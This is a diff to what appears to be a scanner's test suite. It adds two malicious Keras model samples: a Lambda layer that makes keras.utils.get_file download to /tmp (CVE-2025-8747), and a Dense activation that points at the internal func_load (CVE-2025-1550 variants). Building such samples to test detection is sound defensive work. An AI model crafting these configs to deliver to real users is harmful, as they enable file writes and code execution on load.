@@ -1296,6 +1296,20 @@ try:
 except ImportError:
     pass
 
+case("k25_lambda_get_file_arguments.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "Lambda", "registered_name": "Lambda", "config": {
+        "name": "l", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file",
+                                  "registered_name": "function"},
+        "arguments": {"origin": "http://127.0.0.1/x", "fname": "/tmp/wt-bypass-x", "cache_dir": "/tmp"}}})),
+     "Lambda calling keras.utils.get_file with attacker arguments (writes a downloaded file)",
+     "CVE-2025-8747 (JFrog)", "high", "WT-KERAS")
+case("k26_lambda_func_load.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": {
+        "module": "keras.src.utils.python_utils", "class_name": "function", "config": "func_load",
+        "registered_name": "function"}}})),
+     "Keras-internal func_load (marshal + FunctionType) referenced as a function", "CVE-2025-1550 variants",
+     "high", "WT-KERAS")
+
 # ------------------------------------------------------------------ benign controls
 case("b01_state_dict.pt", torch_zip([("data.pkl", SD)] + TENS),
      "benign torch state_dict (_rebuild_tensor_v2)", "control", "none", "-")
